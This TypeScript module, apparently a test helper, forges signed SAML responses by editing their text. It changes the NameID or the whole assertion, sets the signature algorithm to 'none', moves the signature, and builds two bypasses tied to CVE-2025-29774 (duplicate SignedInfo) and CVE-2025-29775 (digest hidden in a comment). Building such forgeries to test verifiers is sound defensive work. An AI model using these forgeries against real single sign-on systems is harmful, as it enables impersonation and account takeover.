/** Changes a response after it was signed; works on text, so that the rest is left byte-identical. */

const ASSERTION = /<saml:Assertion [^]*<\/saml:Assertion>/;
const SIGNATURE = /<ds:Signature [^]*?<\/ds:Signature>/g;
const SIGNED_INFO = /<ds:SignedInfo>[^]*?<\/ds:SignedInfo>/;
const SIGNATURE_VALUE = /<ds:SignatureValue>[^<]*<\/ds:SignatureValue>/;
const DIGEST = /(<ds:DigestValue>)([^<]*)(<\/ds:DigestValue>)/;
const NAME = /(<saml:NameID[^>]*>)[^<]*/;

const found = (pattern: RegExp, xml: string): string => {
  const [match] = xml.match(pattern) ?? [];
  if (!match) throw new Error(`${String(pattern)} is not in the response`);
  return match;
};

const put = (pattern: RegExp, text: string) => (xml: string) => {
  found(pattern, xml);
  return xml.replace(pattern, () => text);
};

export const assertionIn = (xml: string): string => found(ASSERTION, xml);

export const withName = (raw: string) => (xml: string) => xml.replace(NAME, (_, open: string) => `${open}${raw}`);

export const withAssertion = (assertion: string) => put(ASSERTION, assertion);

export const replaced = (what: string | RegExp, by: string) => (xml: string) => {
  const changed = xml.replace(what, () => by);
  if (changed === xml) throw new Error(`${String(what).slice(0, 200)} is not in the response`);
  return changed;
};

/** The signature names no algorithm. */
export const withoutAlgorithm = (xml: string): string =>
  xml
    .replaceAll(/(<ds:SignatureMethod Algorithm=")[^"]*/g, '$1none')
    .replaceAll(new RegExp(SIGNATURE_VALUE, 'g'), '<ds:SignatureValue/>');

/** Moves the signature of the assertion to the response around it. */
export const withMovedSignature = (xml: string): string => {
  const [signature = ''] = xml.match(SIGNATURE) ?? [];
  return xml.replace(SIGNATURE, '').replace('</saml:Issuer>', (end) => `${end}${signature}`);
};

/**
 * The forged document with the genuine SignedInfo next to that of the forgery: accepted by a library that verifies one and trusts the other
 * (CVE-2025-29774).
 */
export const withTwoSignedInfos = (good: string, order: 'good-first' | 'good-last') => (forged: string) => {
  const own = found(SIGNED_INFO, forged);
  const real = found(SIGNED_INFO, good);
  const value = found(SIGNATURE_VALUE, good);
  return put(SIGNATURE_VALUE, value)(put(SIGNED_INFO, order === 'good-first' ? real + own : own + real)(forged));
};

/** The digest of the forgery in a comment before the signed digest, which canonicalization ignores (CVE-2025-29775). */
export const withDigestInComment = (good: string) => (forged: string) => {
  const digest = DIGEST.exec(forged)?.[2];
  const info = found(SIGNED_INFO, good).replace(DIGEST, `$1<!--${digest}-->$2$3`);
  return put(SIGNATURE_VALUE, found(SIGNATURE_VALUE, good))(put(SIGNED_INFO, info)(forged));
};
